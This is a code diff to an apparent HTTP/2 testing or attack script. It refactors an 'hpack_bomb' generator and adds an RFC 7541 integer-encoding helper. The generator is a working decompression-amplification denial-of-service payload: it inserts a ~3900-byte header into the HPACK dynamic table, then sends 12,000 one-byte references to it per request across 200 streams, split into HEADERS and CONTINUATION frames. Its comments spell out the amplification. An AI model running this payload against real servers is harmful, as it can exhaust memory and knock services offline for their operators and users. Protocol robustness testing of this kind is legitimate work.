@@ -120,39 +120,36 @@ def ping(tls):
     return frames()
 
 
+def hpack_integer(n, prefix_bits, first):
+    """RFC 7541 §5.1 integer with an N-bit prefix."""
+    limit = (1 << prefix_bits) - 1
+    if n < limit:
+        return bytes([first | n])
+    out = [first | limit]
+    n -= limit
+    while n >= 128:
+        out.append((n % 128) + 128)
+        n //= 128
+    out.append(n)
+    return bytes(out)
+
+
 def hpack_bomb(tls):
-    # A literal with incremental indexing puts a ~4000-byte header in the dynamic table (index 62); each later
-    # reference to it (0xBE: indexed field 62) costs one byte on the wire and ~4000 bytes once decoded.
-    big = hpack.Encoder()
-    big.header_table_size = 4096
-    insert = b"\x40" + bytes([0x7F, 0x80 - 127 + 0x06]) + b""  # placeholder, replaced below
-
-    def literal_indexed(name, value):
-        def integer(n, prefix_bits, first):
-            limit = (1 << prefix_bits) - 1
-            if n < limit:
-                return bytes([first | n])
-            out = [first | limit]
-            n -= limit
-            while n >= 128:
-                out.append((n % 128) + 128)
-                n //= 128
-            out.append(n)
-            return bytes(out)
-        return b"\x40" + integer(len(name), 7, 0) + name + integer(len(value), 7, 0) + value
-
-    del insert
+    # A literal with incremental indexing (RFC 7541 §6.2.1) puts a ~3900-byte header in the dynamic table at index 62;
+    # each later reference (0xBE: indexed field 62) costs one byte on the wire and ~3900 bytes once decoded.
     encoder = hpack.Encoder()
+    name, value = b"x-bomb", b"b" * 3900
+    insert = b"\x40" + hpack_integer(len(name), 7, 0) + name + hpack_integer(len(value), 7, 0) + value
 
     def frames():
         for i in range(200):
             stream = 1 + 2 * i
-            block = request_block(encoder) if i == 0 else request_block(encoder)
-            block += literal_indexed(b"x-bomb", b"b" * 3900) + b"\xbe" * 12000
-            yield frame(HEADERS, END_HEADERS | END_STREAM, stream, block[:16384]) if len(block) <= 16384 else (
-                frame(HEADERS, END_STREAM, stream, block[:16384])
-                + b"".join(frame(CONTINUATION, END_HEADERS if off + 16384 >= len(block) else 0, stream, block[off:off + 16384])
-                           for off in range(16384, len(block), 16384)))
+            block = request_block(encoder) + insert + b"\xbe" * 12000
+            pieces = [block[off:off + 16384] for off in range(0, len(block), 16384)]
+            data = frame(HEADERS, END_STREAM | (END_HEADERS if len(pieces) == 1 else 0), stream, pieces[0])
+            for index, piece in enumerate(pieces[1:], start=2):
+                data += frame(CONTINUATION, END_HEADERS if index == len(pieces) else 0, stream, piece)
+            yield data
     return frames()
 
 
